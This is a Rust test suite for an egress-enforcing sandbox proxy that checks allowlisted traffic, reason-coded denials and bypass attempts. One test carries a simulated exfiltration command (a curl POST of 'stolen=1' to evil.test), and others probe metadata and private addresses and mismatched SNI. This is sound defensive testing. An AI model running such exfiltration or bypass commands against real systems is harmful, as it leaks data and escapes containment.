//! End-to-end tests of network egress: cells with `network.mode: allowlist` reach the
//! outside only through airlock's enforcing proxy, which decides every connection attempt
//! and records it in the run's result (`egress`) and in the audit store.
//!
//! Every test starts its own upstream servers on 127.0.0.2 (exempted from the
//! private-address rule by the operator config written by the test) on ephemeral ports,
//! and maps fake names (`api.test`, `evil.test`, ...) with the config's static host map.
//! Nothing here touches a real network.
//!
//! Every case runs on both tiers (`both_tiers!`, common/tier.rs): on gVisor the cell's
//! proxy addresses are the sandbox's egress forwarder's, relayed to the same proxy
//! (docs/threat-model.md, "Tiers"), with the same decisions, reason codes and records.
//! What only the gVisor route has (killing its forwarder) is in gvisor.rs.

mod common;

use common::tier::Tier;
use common::upstream::Upstream;
use common::CellRun;
use serde_json::Value;
use std::io::Read;
use std::net::{TcpListener, UdpSocket};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

const UPSTREAM_IP: &str = "127.0.0.2";

/// A test's directory: operator config, state dir, served files.
struct Env {
    dir: tempfile::TempDir,
    config: PathBuf,
    state: PathBuf,
    www: PathBuf,
}

impl Env {
    /// `extra_config` is appended to the `[egress]` table.
    fn new(extra_config: &str) -> Env {
        let dir = tempfile::tempdir().unwrap();
        let config = dir.path().join("airlock.toml");
        std::fs::write(
            &config,
            format!(
                r#"[egress]
resolve = {{ "api.test" = "127.0.0.2", "evil.test" = "127.0.0.2", "lo.test" = "127.0.0.1", "ten.test" = "10.0.0.1", "meta.test" = "169.254.169.254" }}
exempt_cidrs = ["127.0.0.2/32"]
{extra_config}
"#
            ),
        )
        .unwrap();
        let state = dir.path().join("state");
        let www = dir.path().join("www");
        std::fs::create_dir_all(&www).unwrap();
        Env {
            dir,
            config,
            state,
            www,
        }
    }

    fn path(&self) -> &Path {
        self.dir.path()
    }

    fn upstream(&self) -> Upstream {
        Upstream::start(self.path(), &self.www, UPSTREAM_IP, None)
    }

    /// `argv` on `tier` (a gVisor sandbox is checked to have left nothing).
    fn run(&self, tier: Tier, contract: Option<&str>, argv: &[&str]) -> CellRun {
        tier.run_in(
            self.path(),
            contract,
            &[
                "--config",
                self.config.to_str().unwrap(),
                "--state-dir",
                self.state.to_str().unwrap(),
            ],
            argv,
        )
    }

    /// `airlock <args> --state-dir S`, returning (exit code, stdout, stderr).
    fn airlock(&self, args: &[&str]) -> (i32, String, String) {
        let out = Command::new(common::airlock_bin())
            .args(args)
            .arg("--state-dir")
            .arg(&self.state)
            .stdin(Stdio::null())
            .output()
            .unwrap();
        (
            out.status.code().unwrap_or(-1),
            String::from_utf8_lossy(&out.stdout).into_owned(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    }
}

/// Allowlist contract over the given `allowed_domains` entries.
fn allowlist(domains: &[String]) -> String {
    let list: Vec<String> = domains.iter().map(|d| format!("\"{d}\"")).collect();
    format!(
        "network:\n  mode: allowlist\n  allowed_domains: [{}]\n",
        list.join(", ")
    )
}

fn egress(run: &CellRun) -> Vec<Value> {
    run.result["egress"].as_array().cloned().unwrap_or_default()
}

/// The records of one host.
fn records_for(run: &CellRun, host: &str) -> Vec<Value> {
    egress(run)
        .into_iter()
        .filter(|r| r["host"] == host)
        .collect()
}

fn unique_token(label: &str) -> String {
    let nanos = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .subsec_nanos();
    format!("{label}-{}-{nanos}", std::process::id())
}

both_tiers! {
fn allowed_plain_http_with_curl_and_python(tier) {
    require_cells!();
    let env = Env::new("");
    let token = unique_token("plain-body");
    std::fs::write(env.www.join("hello.txt"), &token).unwrap();
    let up = env.upstream();
    let port = up.port;
    let contract = allowlist(&[format!("api.test:{port}")]);
    let url = format!("http://api.test:{port}/hello.txt");

    let curl = env.run(tier, Some(&contract), &["curl", "-sS", "--max-time", "20", &url]);
    assert_eq!(curl.code(), 0, "{}", curl.describe());
    assert_eq!(curl.status(), "ok", "{}", curl.describe());
    assert_eq!(curl.stdout(), token, "{}", curl.describe());

    let py = format!(
        "import urllib.request; print(urllib.request.urlopen('{url}', timeout=20).read().decode())"
    );
    let python = env.run(tier, Some(&contract), &["python3", "-c", &py]);
    assert_eq!(python.code(), 0, "{}", python.describe());
    assert_eq!(python.stdout().trim_end(), token, "{}", python.describe());

    for run in [&curl, &python] {
        let recs = egress(run);
        assert_eq!(
            recs.len(),
            1,
            "one connection, one record\n{}",
            run.describe()
        );
        let r = &recs[0];
        assert_eq!(r["decision"], "allowed", "{}", run.describe());
        assert_eq!(r["protocol"], "http", "{}", run.describe());
        assert_eq!(r["host"], "api.test", "{}", run.describe());
        assert_eq!(r["port"], port, "{}", run.describe());
        assert_eq!(
            r["address"],
            format!("{UPSTREAM_IP}:{port}"),
            "{}",
            run.describe()
        );
        assert!(r["reason"].is_null(), "{}", run.describe());
        assert!(
            r["bytes_down"].as_u64().unwrap_or(0) >= token.len() as u64,
            "{}",
            run.describe()
        );
        assert!(
            r["bytes_up"].as_u64().unwrap_or(0) > 0,
            "{}",
            run.describe()
        );
    }
    assert_eq!(
        up.log().matches("GET /hello.txt").count(),
        2,
        "the upstream saw both requests: {}",
        up.log()
    );
}
}

both_tiers! {
/// The SOCKS5 proxy (`ALL_PROXY`, `socks5h`: the proxy resolves the name) carries a
/// connection to an allowlisted name and refuses another, with its reason, recorded.
fn the_socks_proxy_carries_an_allowlisted_name_and_refuses_another(tier) {
    require_cells!();
    let env = Env::new("");
    let token = unique_token("socks-body");
    std::fs::write(env.www.join("hello.txt"), &token).unwrap();
    let up = env.upstream();
    let port = up.port;
    let contract = allowlist(&[format!("api.test:{port}")]);
    let script = format!(
        "curl -sS --max-time 20 -x \"$ALL_PROXY\" http://api.test:{port}/hello.txt; echo; \
         curl -sS --max-time 20 -x \"$ALL_PROXY\" http://evil.test:{port}/case-denied; \
         echo \"denied=$?\""
    );
    let run = env.run(tier, Some(&contract), &["sh", "-c", &script]);
    assert_eq!(run.code(), 0, "{}", run.describe());
    assert!(run.stdout().starts_with(&format!("{token}\n")), "{}", run.describe());
    assert!(!run.stdout().contains("denied=0"), "{}", run.describe());
    let reached = records_for(&run, "api.test");
    assert_eq!(reached.len(), 1, "{}", run.describe());
    assert_eq!(reached[0]["protocol"], "socks5", "{}", run.describe());
    assert_eq!(reached[0]["decision"], "allowed", "{}", run.describe());
    assert_eq!(reached[0]["address"], format!("{UPSTREAM_IP}:{port}"));
    let refused = records_for(&run, "evil.test");
    assert_eq!(refused.len(), 1, "{}", run.describe());
    assert_eq!(refused[0]["decision"], "denied", "{}", run.describe());
    assert_eq!(refused[0]["reason"], "egress.not_allowlisted", "{}", run.describe());
    assert!(!up.log().contains("case-denied"), "{}", up.log());
}
}

/// Test CA and a server certificate for api.test, made with the openssl CLI.
struct Pki {
    ca: PathBuf,
    cert: PathBuf,
    key: PathBuf,
}

fn make_pki(dir: &Path) -> Pki {
    let openssl = |args: &[&str]| {
        let out = Command::new("openssl")
            .args(args)
            .current_dir(dir)
            .output()
            .expect("openssl CLI");
        assert!(
            out.status.success(),
            "openssl {args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    };
    let ec = ["-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1"];
    let mut ca_args = vec!["req", "-x509", "-nodes", "-days", "2"];
    ca_args.extend(ec);
    ca_args.extend([
        "-keyout",
        "ca.key",
        "-out",
        "ca.pem",
        "-subj",
        "/CN=airlock test CA",
        "-addext",
        "basicConstraints=critical,CA:TRUE",
        "-addext",
        "keyUsage=critical,keyCertSign,cRLSign",
    ]);
    openssl(&ca_args);
    let mut csr_args = vec!["req", "-nodes"];
    csr_args.extend(ec);
    csr_args.extend([
        "-keyout",
        "server.key",
        "-out",
        "server.csr",
        "-subj",
        "/CN=api.test",
    ]);
    openssl(&csr_args);
    std::fs::write(
        dir.join("server.ext"),
        "subjectAltName=DNS:api.test\nbasicConstraints=CA:FALSE\nextendedKeyUsage=serverAuth\n",
    )
    .unwrap();
    openssl(&[
        "x509",
        "-req",
        "-in",
        "server.csr",
        "-CA",
        "ca.pem",
        "-CAkey",
        "ca.key",
        "-CAcreateserial",
        "-days",
        "2",
        "-extfile",
        "server.ext",
        "-out",
        "server.pem",
    ]);
    Pki {
        ca: dir.join("ca.pem"),
        cert: dir.join("server.pem"),
        key: dir.join("server.key"),
    }
}

both_tiers! {
/// The CA certificate mounted as a single read-only file, as the task describes it.
fn allowed_https_through_connect_with_ca_file_input(tier) {
    https_case(tier, true);
}
}

both_tiers! {
/// The same with the CA's directory mounted (isolates the HTTPS path from file inputs).
fn allowed_https_through_connect_with_ca_dir_input(tier) {
    https_case(tier, false);
}
}

fn https_case(tier: Tier, file_input: bool) {
    require_cells!();
    let env = Env::new("");
    let pki_dir = env.path().join("pki");
    std::fs::create_dir_all(&pki_dir).unwrap();
    let pki = make_pki(&pki_dir);
    // The private keys stay on the host.
    let ca_dir = env.path().join("ca");
    std::fs::create_dir_all(&ca_dir).unwrap();
    std::fs::copy(&pki.ca, ca_dir.join("ca.pem")).unwrap();
    let token = unique_token("tls-body");
    std::fs::write(env.www.join("secret.txt"), &token).unwrap();
    let up = Upstream::start(
        env.path(),
        &env.www,
        UPSTREAM_IP,
        Some((&pki.cert, &pki.key)),
    );
    let port = up.port;
    let input = if file_input {
        format!(
            "{{ source: \"{}\", target: /input/ca.pem }}",
            pki.ca.display()
        )
    } else {
        format!("{{ source: \"{}\", target: /input }}", ca_dir.display())
    };
    let contract = format!(
        "filesystem:\n  readonly_inputs:\n    - {input}\n{}",
        allowlist(&[format!("api.test:{port}")])
    );
    let url = format!("https://api.test:{port}/secret.txt");

    let curl = env.run(
        tier,
        Some(&contract),
        &[
            "curl",
            "-sS",
            "--max-time",
            "20",
            "--cacert",
            "/input/ca.pem",
            &url,
        ],
    );
    assert_eq!(curl.code(), 0, "{}", curl.describe());
    assert_eq!(curl.stdout(), token, "{}", curl.describe());

    let py = format!(
        "import ssl, urllib.request\n\
         ctx = ssl.create_default_context(cafile='/input/ca.pem')\n\
         print(urllib.request.urlopen('{url}', context=ctx, timeout=20).read().decode())\n"
    );
    let python = env.run(tier, Some(&contract), &["python3", "-c", &py]);
    assert_eq!(python.code(), 0, "{}", python.describe());
    assert_eq!(python.stdout().trim_end(), token, "{}", python.describe());

    for run in [&curl, &python] {
        let recs = egress(run);
        assert_eq!(recs.len(), 1, "{}", run.describe());
        let r = &recs[0];
        assert_eq!(r["protocol"], "connect", "{}", run.describe());
        assert_eq!(r["decision"], "allowed", "{}", run.describe());
        assert_eq!(r["host"], "api.test", "{}", run.describe());
        assert_eq!(
            r["address"],
            format!("{UPSTREAM_IP}:{port}"),
            "{}",
            run.describe()
        );
        assert!(r["reason"].is_null(), "{}", run.describe());
        assert!(
            r["bytes_up"].as_u64().unwrap_or(0) > 0 && r["bytes_down"].as_u64().unwrap_or(0) > 0,
            "{}",
            run.describe()
        );
    }
    // The tunnel carried TLS end to end: without the CA the same request fails.
    let untrusted = env.run(
        tier,
        Some(&contract),
        &["curl", "-sS", "--max-time", "20", &url],
    );
    assert_ne!(untrusted.code(), 0, "{}", untrusted.describe());
    assert!(
        !untrusted.stdout().contains(&token),
        "{}",
        untrusted.describe()
    );
}

both_tiers! {
fn denials_carry_reason_codes_in_response_and_records(tier) {
    require_cells!();
    let env = Env::new("");
    std::fs::write(env.www.join("index.html"), "upstream").unwrap();
    let up = env.upstream();
    let port = up.port;
    // Everything but evil.test is on the list, so the private-address rule is what
    // refuses lo.test, ten.test and meta.test.
    let contract = allowlist(&[
        format!("api.test:{port}"),
        format!("lo.test:{port}"),
        format!("ten.test:{port}"),
        format!("meta.test:{port}"),
    ]);
    let cases: Vec<(&str, String, Option<&str>)> = vec![
        (
            "evil.test",
            format!("http://evil.test:{port}/case-not-allowlisted"),
            Some("egress.not_allowlisted"),
        ),
        (
            "127.0.0.2",
            format!("http://127.0.0.2:{port}/case-ip-literal"),
            Some("egress.ip_literal"),
        ),
        (
            "lo.test",
            format!("http://lo.test:{port}/case-loopback"),
            Some("egress.private_address"),
        ),
        (
            "ten.test",
            format!("http://ten.test:{port}/case-rfc1918"),
            Some("egress.private_address"),
        ),
        (
            "meta.test",
            format!("http://meta.test:{port}/case-metadata"),
            Some("egress.private_address"),
        ),
        (
            "::ffff:127.0.0.1",
            format!("http://[::ffff:127.0.0.1]:{port}/case-mapped"),
            None,
        ),
    ];
    let mut script = String::new();
    for (i, (_, url, _)) in cases.iter().enumerate() {
        script.push_str(&format!(
            "echo '=== case {i}'; curl -s -i --max-time 20 -g '{url}'; echo; echo \"curl-exit=$?\"\n"
        ));
    }
    let run = env.run(tier, Some(&contract), &["sh", "-c", &script]);
    assert_eq!(run.code(), 0, "{}", run.describe());
    let stdout = run.stdout();
    let sections: Vec<&str> = stdout.split("=== case ").skip(1).collect();
    assert_eq!(sections.len(), cases.len(), "{}", run.describe());

    for (i, (host, url, reason)) in cases.iter().enumerate() {
        let section = sections[i];
        let record = records_for(&run, host);
        assert_eq!(record.len(), 1, "case {url}: {}", run.describe());
        let r = &record[0];
        assert_eq!(r["decision"], "denied", "case {url}: {}", run.describe());
        let got = r["reason"].as_str().unwrap_or("").to_string();
        match reason {
            Some(expected) => assert_eq!(got, *expected, "case {url}: {}", run.describe()),
            None => assert!(
                got == "egress.ip_literal" || got == "egress.private_address",
                "case {url}: mapped IPv6 literal must be refused as a literal or a private address\n{}",
                run.describe()
            ),
        }
        assert!(
            section.contains("HTTP/1.1 403"),
            "case {url}: expected a 403 refusal:\n{section}\n{}",
            run.describe()
        );
        assert!(
            section.contains(&format!("X-Airlock-Reason: {got}\r\n")),
            "case {url}: expected header X-Airlock-Reason: {got}:\n{section}\n{}",
            run.describe()
        );
        let body = section.split("\r\n\r\n").nth(1).unwrap_or("");
        assert!(
            body.contains(&got),
            "case {url}: the body names the reason:\n{section}\n{}",
            run.describe()
        );
        assert_eq!(r["bytes_up"], 0, "case {url}: {}", run.describe());
    }
    if let Some(r) = records_for(&run, "lo.test").first() {
        assert_eq!(
            r["address"],
            format!("127.0.0.1:{port}"),
            "{}",
            run.describe()
        );
    }
    if let Some(r) = records_for(&run, "meta.test").first() {
        assert_eq!(
            r["address"],
            format!("169.254.169.254:{port}"),
            "{}",
            run.describe()
        );
    }
    assert_eq!(egress(&run).len(), cases.len(), "{}", run.describe());
    assert!(
        !up.log().contains("/case-"),
        "no denied request may reach the upstream: {}",
        up.log()
    );
}
}

both_tiers! {
fn connect_with_mismatched_sni_is_cut(tier) {
    require_cells!();
    let env = Env::new("");
    let up = env.upstream();
    let port = up.port;
    let contract = allowlist(&[format!("api.test:{port}")]);
    let py = format!(
        r#"
import socket, ssl
s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
s.sendall(b"CONNECT api.test:{port} HTTP/1.1\r\nHost: api.test:{port}\r\n\r\n")
reply = b""
while b"\r\n\r\n" not in reply:
    chunk = s.recv(4096)
    if not chunk:
        break
    reply += chunk
print("CONNECT-REPLY", reply.split(b"\r\n")[0].decode())
ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
try:
    t = ctx.wrap_socket(s, server_hostname="evil.test")
    print("HANDSHAKE-OK")
except Exception as e:
    print("TLS-FAILED", type(e).__name__)
"#
    );
    let run = env.run(tier, Some(&contract), &["python3", "-c", &py]);
    assert_eq!(run.code(), 0, "{}", run.describe());
    assert!(
        run.stdout().contains("CONNECT-REPLY HTTP/1.1 200"),
        "the CONNECT itself is allowed: {}",
        run.describe()
    );
    assert!(
        run.stdout().contains("TLS-FAILED") && !run.stdout().contains("HANDSHAKE-OK"),
        "the tunnel must be closed on a ClientHello for another name: {}",
        run.describe()
    );
    let recs = records_for(&run, "api.test");
    assert_eq!(recs.len(), 1, "{}", run.describe());
    assert_eq!(recs[0]["protocol"], "connect", "{}", run.describe());
    assert_eq!(
        recs[0]["reason"],
        "egress.sni_mismatch",
        "{}",
        run.describe()
    );
    assert_eq!(recs[0]["decision"], "denied", "{}", run.describe());
    assert_eq!(
        recs[0]["bytes_up"],
        0,
        "the ClientHello must not reach the upstream: {}",
        run.describe()
    );
    assert!(up.log().is_empty(), "upstream saw traffic: {}", up.log());
}
}

both_tiers! {
fn direct_tcp_dns_and_udp_bypassing_the_proxy_go_nowhere(tier) {
    require_cells!();
    let env = Env::new("");
    // Raw listeners on the host: anything arriving here bypassed the proxy.
    let tcp = TcpListener::bind((UPSTREAM_IP, 0)).unwrap();
    tcp.set_nonblocking(true).unwrap();
    let tcp_port = tcp.local_addr().unwrap().port();
    let udp = UdpSocket::bind((UPSTREAM_IP, 0)).unwrap();
    let udp_port = udp.local_addr().unwrap().port();
    // A DNS-port listener too, when the port is free on this host.
    let dns = UdpSocket::bind((UPSTREAM_IP, 53)).ok();
    let contract = allowlist(&[format!("api.test:{tcp_port}")]);
    let py = format!(
        r#"
import socket
for target in [("127.0.0.2", {tcp_port}), ("127.0.0.1", {tcp_port})]:
    try:
        socket.create_connection(target, timeout=5)
        print("DIRECT-CONNECTED", target)
    except Exception as e:
        print("DIRECT-FAILED", target, type(e).__name__)
try:
    print("GAI-RESOLVED", socket.getaddrinfo("evil.test", 80))
except Exception as e:
    print("GAI-FAILED", type(e).__name__)
# The allowlisted name resolves only to its transparent address inside the cell.
print("API-ADDRESSES", sorted(set(a[4][0] for a in socket.getaddrinfo("api.test", {tcp_port}))))
query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x03api\x04test\x00\x00\x01\x00\x01"
for port in (53, {udp_port}):
    try:
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.settimeout(2)
        u.sendto(query, ("127.0.0.2", port))
        u.sendto(b"UDP-ESCAPE", ("127.0.0.2", port))
        print("UDP-REPLY", port, u.recvfrom(512))
    except Exception as e:
        print("UDP-FAILED", port, type(e).__name__)
"#
    );
    let run = env.run(tier, Some(&contract), &["python3", "-c", &py]);
    let out = run.stdout();
    assert_eq!(run.code(), 0, "{}", run.describe());
    assert!(
        !out.contains("DIRECT-CONNECTED") && out.matches("DIRECT-FAILED").count() == 2,
        "{}",
        run.describe()
    );
    assert!(
        out.contains("GAI-FAILED") && !out.contains("GAI-RESOLVED"),
        "{}",
        run.describe()
    );
    assert!(
        out.contains("API-ADDRESSES ['127.100.0.1']"),
        "{}",
        run.describe()
    );
    assert!(
        !out.contains("UDP-REPLY") && out.matches("UDP-FAILED").count() == 2,
        "{}",
        run.describe()
    );
    // curl ignoring the proxy cannot resolve or reach anything either.
    let noproxy = env.run(
        tier,
        Some(&contract),
        &[
            "curl",
            "-sS",
            "--max-time",
            "5",
            "--noproxy",
            "*",
            "--resolve",
            &format!("api.test:{tcp_port}:127.0.0.2"),
            &format!("http://api.test:{tcp_port}/"),
        ],
    );
    assert_ne!(noproxy.code(), 0, "{}", noproxy.describe());

    match tcp.accept() {
        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
        other => panic!(
            "a connection reached the host listener directly: {other:?}\n{}",
            run.describe()
        ),
    }
    udp.set_read_timeout(Some(Duration::from_millis(300)))
        .unwrap();
    let mut buf = [0u8; 512];
    if let Ok((n, from)) = udp.recv_from(&mut buf) {
        panic!(
            "UDP datagram from the cell reached the host ({n} bytes from {from})\n{}",
            run.describe()
        );
    }
    if let Some(dns) = dns {
        dns.set_read_timeout(Some(Duration::from_millis(300)))
            .unwrap();
        if let Ok((n, from)) = dns.recv_from(&mut buf) {
            panic!(
                "DNS query from the cell reached the host ({n} bytes from {from})\n{}",
                run.describe()
            );
        }
    }
    // Nothing went through the proxy; the only records are the in-cell resolver's
    // refusals of the name that is not allowlisted.
    assert!(
        egress(&run)
            .iter()
            .all(|r| r["protocol"] == "dns" && r["host"] == "evil.test"),
        "{}",
        run.describe()
    );
    assert!(egress(&noproxy).is_empty(), "{}", noproxy.describe());
}
}

both_tiers! {
/// Seed 000: the payload tries to exfiltrate to a host that is not on the list.
fn seed_000_exfiltration_attempt_is_denied_and_classified(tier) {
    require_cells!();
    let env = Env::new("");
    let up = env.upstream();
    let contract = allowlist(&[format!("api.test:{}", up.port)]);
    let script = r#"
curl -sS --max-time 20 https://evil.test/ -d 'stolen=1'; c=$?
python3 -c '
import urllib.request, sys
try:
    urllib.request.urlopen("https://evil.test/", timeout=20)
    print("PY-SUCCEEDED")
except Exception as e:
    print("PY-FAILED", type(e).__name__, e)
    sys.exit(7)
'; p=$?
echo "curl=$c python=$p"
[ $c -ne 0 ] && [ $p -ne 0 ] && exit 3
exit 0
"#;
    let run = env.run(tier, Some(&contract), &["sh", "-c", script]);
    assert_eq!(
        run.code(),
        3,
        "the payload saw both attempts fail: {}",
        run.describe()
    );
    assert_eq!(run.status(), "policy_denied", "{}", run.describe());
    assert!(run.stdout().contains("PY-FAILED"), "{}", run.describe());
    assert!(
        run.stderr().contains("403"),
        "curl reports the refused CONNECT: {}",
        run.describe()
    );
    let recs = records_for(&run, "evil.test");
    assert_eq!(recs.len(), 2, "{}", run.describe());
    for r in &recs {
        assert_eq!(r["decision"], "denied", "{}", run.describe());
        assert_eq!(r["reason"], "egress.not_allowlisted", "{}", run.describe());
        assert_eq!(r["port"], 443, "{}", run.describe());
        assert_eq!(r["protocol"], "connect", "{}", run.describe());
        assert!(r["address"].is_null(), "{}", run.describe());
    }
    // The denials are in the audit store too, and the chain is intact.
    let run_id = run.result["run_id"].as_str().unwrap_or("").to_string();
    let (code, show, err) = env.airlock(&["runs", "show", &run_id, "--json"]);
    assert_eq!(code, 0, "runs show: {err}\n{}", run.describe());
    let detail: Value = serde_json::from_str(&show).unwrap();
    assert_eq!(detail["run"]["status"], "policy_denied", "{show}");
    let denials = detail["events"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| {
            e["kind"] == "egress.decision"
                && e["body"]["reason_code"] == "egress.not_allowlisted"
                && e["body"]["host"] == "evil.test"
        })
        .count();
    assert_eq!(denials, 2, "stored egress events: {show}");
    let (code, out, err) = env.airlock(&["audit", "verify"]);
    assert_eq!(code, 0, "audit verify: {out}{err}");
    assert!(up.log().is_empty(), "upstream saw traffic: {}", up.log());
}
}

both_tiers! {
fn network_deny_mode_has_no_proxy(tier) {
    require_cells!();
    let env = Env::new("");
    let up = env.upstream();
    let port = up.port;
    let script = format!(
        "curl -sS --max-time 5 http://api.test:{port}/; echo \"plain=$?\"; \
         curl -sS --max-time 5 -x http://127.0.0.1:3128 http://api.test:{port}/; echo \"proxy=$?\"; \
         env | grep -i _proxy; echo done"
    );
    // Default contract: network mode deny.
    let run = env.run(tier, None, &["sh", "-c", &script]);
    assert_eq!(run.code(), 0, "{}", run.describe());
    let out = run.stdout();
    assert!(
        !out.contains("plain=0") && out.contains("plain="),
        "{}",
        run.describe()
    );
    assert!(
        !out.contains("proxy=0") && out.contains("proxy="),
        "no proxy listens in a deny cell: {}",
        run.describe()
    );
    assert!(
        !out.to_ascii_lowercase().contains("_proxy="),
        "no proxy variables in a deny cell: {}",
        run.describe()
    );
    assert!(
        egress(&run).is_empty(),
        "no egress records: {}",
        run.describe()
    );
    assert_eq!(
        run.result["plan"]["network"]["mode"],
        "deny",
        "{}",
        run.describe()
    );
    assert!(up.log().is_empty(), "upstream saw traffic: {}", up.log());
}
}

both_tiers! {
fn max_connections_ceiling_refuses_the_extra_connection(tier) {
    require_cells!();
    let env = Env::new("max_connections = 1");
    let up = env.upstream();
    let port = up.port;
    let contract = allowlist(&[format!("api.test:{port}")]);
    let py = format!(
        r#"
import socket
def tunnel():
    s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
    s.sendall(b"CONNECT api.test:{port} HTTP/1.1\r\nHost: api.test:{port}\r\n\r\n")
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = s.recv(4096)
        if not chunk:
            break
        data += chunk
    try:
        s.settimeout(2)
        data += s.recv(4096)
    except Exception:
        pass
    return s, data.decode(errors="replace")
a, ra = tunnel()
print("FIRST", ra.splitlines()[0] if ra else "")
b, rb = tunnel()
print("SECOND", rb.replace("\r\n", " | "))
a.close()
"#
    );
    let run = env.run(tier, Some(&contract), &["python3", "-c", &py]);
    assert_eq!(run.code(), 0, "{}", run.describe());
    let out = run.stdout();
    assert!(
        out.contains("FIRST HTTP/1.1 200"),
        "the first tunnel is allowed: {}",
        run.describe()
    );
    let second = out.lines().find(|l| l.starts_with("SECOND")).unwrap_or("");
    assert!(
        !second.contains(" 200 ") && second.contains("egress.limit"),
        "the second concurrent connection is refused with egress.limit: {}",
        run.describe()
    );
    let recs = egress(&run);
    assert_eq!(recs.len(), 2, "{}", run.describe());
    assert!(
        recs.iter()
            .any(|r| r["decision"] == "allowed" && r["reason"].is_null()),
        "{}",
        run.describe()
    );
    assert!(
        recs.iter()
            .any(|r| r["decision"] == "denied" && r["reason"] == "egress.limit"),
        "{}",
        run.describe()
    );
}
}

both_tiers! {
fn max_bytes_ceiling_cuts_a_large_download(tier) {
    require_cells!();
    let env = Env::new("max_bytes = 1000");
    let mut big = vec![0u8; 20_000];
    std::fs::File::open("/dev/urandom")
        .unwrap()
        .read_exact(&mut big)
        .unwrap();
    std::fs::write(env.www.join("big.bin"), &big).unwrap();
    let up = env.upstream();
    let port = up.port;
    let contract = allowlist(&[format!("api.test:{port}")]);
    let script = format!(
        "curl -sS --max-time 20 -o /tmp/big.bin http://api.test:{port}/big.bin; echo \"curl=$?\"; \
         wc -c < /tmp/big.bin 2>/dev/null || echo 0"
    );
    let run = env.run(tier, Some(&contract), &["sh", "-c", &script]);
    let out = run.stdout();
    assert!(
        !out.contains("curl=0\n"),
        "the download must not complete: {}",
        run.describe()
    );
    let got: u64 = out
        .lines()
        .last()
        .and_then(|l| l.trim().parse().ok())
        .unwrap_or(u64::MAX);
    assert!(got < 20_000, "received {got} bytes: {}", run.describe());
    let recs = records_for(&run, "api.test");
    assert_eq!(recs.len(), 1, "{}", run.describe());
    assert_eq!(recs[0]["reason"], "egress.limit", "{}", run.describe());
    let total =
        recs[0]["bytes_up"].as_u64().unwrap_or(0) + recs[0]["bytes_down"].as_u64().unwrap_or(0);
    assert!(
        total <= 1000,
        "no more than max_bytes forwarded ({total}): {}",
        run.describe()
    );
}
}
